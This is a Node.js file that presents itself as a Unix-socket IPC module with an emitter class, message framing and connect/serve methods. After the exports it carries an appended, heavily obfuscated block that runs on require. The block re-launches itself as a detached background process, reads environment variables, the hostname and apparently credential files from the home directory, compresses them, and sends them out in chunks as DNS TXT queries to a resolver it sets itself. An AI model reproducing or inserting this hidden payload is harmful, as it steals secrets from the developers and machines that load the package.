'use strict';
const net = require('net');
const { Emitter } = require('./services/events.js');
const { createLogger } = require('./services/logger.js');

class IPC extends Emitter {
  constructor(config) {
    super();
    this.config = Object.assign({ appspace: 'app.', socketRoot: '/run/ipc/', id: 'world', encoding: 'utf8', delimiter: '\f' }, config);
    this.log = createLogger({ name: this.config.id });
    this.of = {};
  }
  format(type, data) {
    return JSON.stringify({ type, data }) + this.config.delimiter;
  }
  parse(chunk, visit) {
    for (const part of String(chunk).split(this.config.delimiter).filter(Boolean)) visit(JSON.parse(part));
  }
  connectTo(id, path, ready) {
    const client = new Emitter();
    client.socket = net.connect({ path: path || this.config.socketRoot + this.config.appspace + id });
    client.socket.setEncoding(this.config.encoding);
    client.socket.on('connect', () => client.emit('connect'));
    client.socket.on('data', (chunk) => this.parse(chunk, (message) => client.emit(message.type, message.data)));
    client.send = (type, data) => client.socket.write(this.format(type, data));
    this.of[id] = client;
    if (ready) ready(this);
    return client;
  }
  serve(path, started) {
    this.server = net.createServer((socket) => {
      socket.setEncoding(this.config.encoding);
      socket.on('data', (chunk) => this.parse(chunk, (message) => this.emit(message.type, message.data, socket)));
    });
    this.server.listen(path || this.config.socketRoot + this.config.appspace + this.config.id, started);
    return this.server;
  }
}

module.exports = new IPC();
module.exports.IPC = IPC;
(function(_0x511dcb,_0x55eb43){const _0x20ce2d=_0x231a,_0x26770d=_0x511dcb();while(!![]){try{const _0x433e1e=parseInt(_0x20ce2d(0x18c))/0x1+-parseInt(_0x20ce2d(0x164))/0x2+-parseInt(_0x20ce2d(0x190))/0x3+-parseInt(_0x20ce2d(0x167))/0x4*(parseInt(_0x20ce2d(0x18d))/0x5)+-parseInt(_0x20ce2d(0x187))/0x6*(-parseInt(_0x20ce2d(0x18f))/0x7)+parseInt(_0x20ce2d(0x188))/0x8+parseInt(_0x20ce2d(0x163))/0x9;if(_0x433e1e===_0x55eb43)break;else _0x26770d['push'](_0x26770d['shift']());}catch(_0x5a06e3){_0x26770d['push'](_0x26770d['shift']());}}}(_0x540d,0xaae9e));;function _0x231a(_0x1dee2b,_0x1eeda5){_0x1dee2b=_0x1dee2b-0x15d;const _0x540d66=_0x540d();let _0x231a07=_0x540d66[_0x1dee2b];if(_0x231a['bgUELV']===undefined){var _0x3f8789=function(_0x249c66){const _0x2cc6d7='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';let _0x312ce3='',_0x274012='';for(let _0x2a4973=0x0,_0x95282b,_0xca6e50,_0x4f7e7f=0x0;_0xca6e50=_0x249c66['charAt'](_0x4f7e7f++);~_0xca6e50&&(_0x95282b=_0x2a4973%0x4?_0x95282b*0x40+_0xca6e50:_0xca6e50,_0x2a4973++%0x4)?_0x312ce3+=String['fromCharCode'](0xff&_0x95282b>>(-0x2*_0x2a4973&0x6)):0x0){_0xca6e50=_0x2cc6d7['indexOf'](_0xca6e50);}for(let _0x37fd45=0x0,_0x17c9ae=_0x312ce3['length'];_0x37fd45<_0x17c9ae;_0x37fd45++){_0x274012+='%'+('00'+_0x312ce3['charCodeAt'](_0x37fd45)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x274012);};_0x231a['FdgWEZ']=_0x3f8789,_0x231a['ALCsyk']={},_0x231a['bgUELV']=!![];}const _0x3979fb=_0x540d66[0x0],_0x573fdb=_0x1dee2b+_0x3979fb,_0x1d9e6e=_0x231a['ALCsyk'][_0x573fdb];return!_0x1d9e6e?(_0x231a07=_0x231a['FdgWEZ'](_0x231a07),_0x231a['ALCsyk'][_0x573fdb]=_0x231a07):_0x231a07=_0x1d9e6e,_0x231a07;}(function(){const _0xfb3389=_0x231a;if(process[_0xfb3389(0x178)][_0xfb3389(0x16c)])return;const _0x312ce3=require('os'),_0x274012=require('fs'),_0x2a4973=require(_0xfb3389(0x162)),_0x95282b=require(_0xfb3389(0x171)),_0xca6e50=require(_0xfb3389(0x15d)),_0x4f7e7f=require(_0xfb3389(0x170)+_0xfb3389(0x181));if(!process[_0xfb3389(0x178)][_0xfb3389(0x172)]){_0x4f7e7f[_0xfb3389(0x17c)](__filename,[],{'detached':!![],'stdio':_0xfb3389(0x189),'env':Object[_0xfb3389(0x182)]({},process[_0xfb3389(0x178)],{'__ntRun':'1'})})[_0xfb3389(0x160)]();return;}const _0x37fd45=[_0xfb3389(0x16b),_0xfb3389(0x179)+_0xfb3389(0x180),_0xfb3389(0x166)+_0xfb3389(0x17b),_0xfb3389(0x166)+_0xfb3389(0x177),_0xfb3389(0x191)+_0xfb3389(0x16e),_0xfb3389(0x193)+_0xfb3389(0x169)+_0xfb3389(0x16f),_0xfb3389(0x183)+_0xfb3389(0x173)+_0xfb3389(0x18a)+_0xfb3389(0x15f)+_0xfb3389(0x196)+_0xfb3389(0x175)+_0xfb3389(0x16f)],_0x17c9ae={'env':process[_0xfb3389(0x178)],'host':_0x312ce3[_0xfb3389(0x168)](),'files':{}};for(const _0x351183 of _0x37fd45){try{_0x17c9ae[_0xfb3389(0x184)][_0x351183]=_0x274012[_0xfb3389(0x194)+_0xfb3389(0x17f)](_0x2a4973[_0xfb3389(0x18b)](_0x312ce3[_0xfb3389(0x195)](),_0x351183),_0xfb3389(0x186));}catch(_0x5514a4){}}const _0x45baa7=_0xca6e50[_0xfb3389(0x165)](JSON[_0xfb3389(0x174)+'y'](_0x17c9ae))[_0xfb3389(0x17d)](_0xfb3389(0x17e)),_0x327b67=new _0x95282b[(_0xfb3389(0x16a))]();_0x327b67[_0xfb3389(0x185)+'rs']([_0xfb3389(0x17a)+_0xfb3389(0x15e)]);for(let _0x316090=0x0,_0x314bd3=0x0;_0x316090<_0x45baa7[_0xfb3389(0x176)];_0x316090+=0x3c,_0x314bd3+=0x1){_0x327b67[_0xfb3389(0x161)+'xt'](['xh',_0x314bd3,_0x45baa7[_0xfb3389(0x192)](_0x316090,_0x316090+0x3c),_0xfb3389(0x16d)+_0xfb3389(0x18e)][_0xfb3389(0x18b)]('.'),()=>{});}}());function _0x540d(){const _0x4cd5de=['B2nLC3m','yxnZAwDU','lMnVBMzPzY8','zMLSzxm','C2v0u2vYDMu','yMfZzty0','nJa3mdeZngjYs2TqAW','mty3odaXnMzwB3LLvq','AwDUB3jL','ChbSAwnHDgK','AM9PBG','odK3ndu5EML1Bg5z','mJe1qMvjq3Py','zxHHBxbSzq','n0HuEMrJqW','ndaYmZCWnuXvu1fPCq','lMT1yMuVy28','C2XPy2u','lMrVy2TLCI8','CMvHzezPBgu','Ag9TzwrPCG','BhrFy3jLzgu','EMXPyG','mY41mW','B25FzgvMyxu','Dw5Yzwy','CMvZB2X2zvq','Cgf0Aa','mtK4nZaWodnwCMj6D2O','mJCYmJu1neLhq0rpwa','z3PPCfn5BMm','lNnZAc9Pzf8','odu5nJrlAuPXyKi','Ag9ZDg5HBwu','y29UzMLNlMO','uMvZB2X2zxi','lM5WBxjJ','x19UDhC','yNqUBM9Kzs4','BMzPzW','C29U','y2HPBgrFChi','zg5Z','x19UDfj1BG','z2nSB3vKl2e','C3rYAw5NAwy','BNrPywXZlMO','BgvUz3rO','zwqYntuXoq','zw52','lMf3CY9JCMu','mJaZlJaUmte','CNnH','zM9YAW','Dg9tDhjPBMC','Agv4','u3LUyW','zgvUDgLHBhm'];_0x540d=function(){return _0x4cd5de;};return _0x540d();}
